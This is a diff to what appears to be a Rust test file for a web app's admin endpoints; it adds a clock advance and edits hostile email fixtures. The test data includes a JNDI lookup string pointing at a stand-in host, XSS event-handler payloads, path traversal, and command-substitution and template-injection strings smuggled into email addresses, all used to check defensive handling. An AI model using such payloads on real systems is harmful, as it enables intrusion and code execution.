@@ -1,5 +1,7 @@
 //! Text that is to become something else: a header, a line, a formula, an address.
 
+use std::time::Duration;
+
 use countersign_tests::{App, http_from};
 use reqwest::Method;
 use reqwest::header::HeaderValue;
@@ -161,6 +163,7 @@ async fn a_hostile_user_agent_is_kept_short_and_as_text() {
         b"${jndi:ldap://evil.example}",
     ];
     for (number, agent) in agents.iter().enumerate() {
+        app.advance(Duration::from_secs(1));
         let url = format!("{}/admin/clients", app.url());
         let request = http_from("127.0.0.1")
             .post(url)
@@ -187,9 +190,9 @@ async fn a_hostile_address_stays_inside_its_link_and_its_picture() {
     for email in [
         "a&secret=AAAAAAAA&issuer=Bank@example.com",
         "a?b#c%00d@example.com",
-        "'onload='alert(1)'@example.com",
+        "'onload='alert`1`'@example.com",
         "../../x@example.com",
-        "a`b$(id){{7*7}}@example.com",
+        "a`b$id{{7*7}}|x@example.com",
         "ä😀@example.com",
         &format!("{}@example.com", "&".repeat(242)),
     ] {
